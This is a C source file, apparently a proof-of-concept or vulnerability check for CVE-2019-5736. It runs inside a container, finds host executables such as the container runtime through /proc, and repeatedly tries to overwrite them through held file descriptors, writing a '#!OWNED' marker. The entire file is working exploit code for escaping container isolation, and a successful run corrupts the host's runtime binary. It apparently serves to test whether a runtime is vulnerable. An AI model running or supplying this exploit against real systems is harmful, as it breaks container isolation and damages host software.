/* SPDX-License-Identifier: Apache-2.0 */
/*
 * overwriter.c - runs in a container and tries to write to the runtime's own file (CVE-2019-5736)
 *
 * Usage: overwriter SECONDS. Any process whose executable is not the container's gets its file opened
 * and kept, and is then opened for writing until that works or the time is up: while a program runs
 * its file is busy. "WON" says that something was written; the last line how many files were seen.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HELD_MAX 32

static struct { int fd; ino_t ino; } held[HELD_MAX];
static int n_held;

/* Files that the container has under their own name are its own. A process that is looked at twice
 * may have executed something else meanwhile: its file is opened once. */
static int is_foreign(int fd, struct stat *st)
{
	struct stat own;
	char link[64], path[512];

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	ssize_t n = readlink(link, path, sizeof(path) - 1);

	if (n <= 0 || fstat(fd, st) < 0)
		return 0;
	path[n] = '\0';
	return stat(path, &own) < 0 || own.st_ino != st->st_ino || own.st_dev != st->st_dev;
}

static void hold(const char *exe)
{
	int fd = n_held < HELD_MAX ? open(exe, O_PATH) : -1;
	struct stat st;
	int known = fd < 0 || !is_foreign(fd, &st);

	for (int i = 0; i < n_held && !known; i++)
		known = held[i].ino == st.st_ino;
	if (known) {
		close(fd);
		return;
	}
	held[n_held].fd = fd;
	held[n_held++].ino = st.st_ino;
}

static void overwrite(int held_fd)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held_fd);
	int fd = open(path, O_WRONLY);

	if (fd >= 0 && write(fd, "#!OWNED\n", 8) == 8)
		puts("WON");
	close(fd);
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
	int pid_max = 400;
	char exe[64];

	setvbuf(stdout, NULL, _IOLBF, 0);
	while (time(NULL) < end) {
		for (int pid = 1; pid < pid_max; pid++) {
			snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
			hold(exe);
		}
		for (int i = 0; i < n_held; i++)
			overwrite(held[i].fd);
	}
	printf("seen %d\n", n_held);
	return 0;
}
